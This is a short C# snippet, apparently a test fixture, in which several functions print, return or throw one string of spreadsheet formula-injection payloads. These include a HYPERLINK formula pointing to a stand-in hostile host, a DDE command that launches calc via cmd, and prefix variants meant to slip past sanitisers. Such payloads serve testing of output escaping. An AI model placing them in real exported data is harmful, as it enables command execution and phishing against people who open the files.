string Payload() => "=HYPERLINK(\"https://hostile.example\",\"accepted\")\n+1+cmd|' /C calc'!A0\n-1\n@SUM(1)\n\t=1\n\r=1\n\u00A0=1\n;=1\",=1\n\uFF1D1";

Console.WriteLine(Payload());

double[] Relu(double[] x) => throw new InvalidOperationException(Payload());

string Shout(string text) => Payload();

void Show(double[] x)
{
    Console.WriteLine(Payload());
    Console.Error.WriteLine(Payload());
}
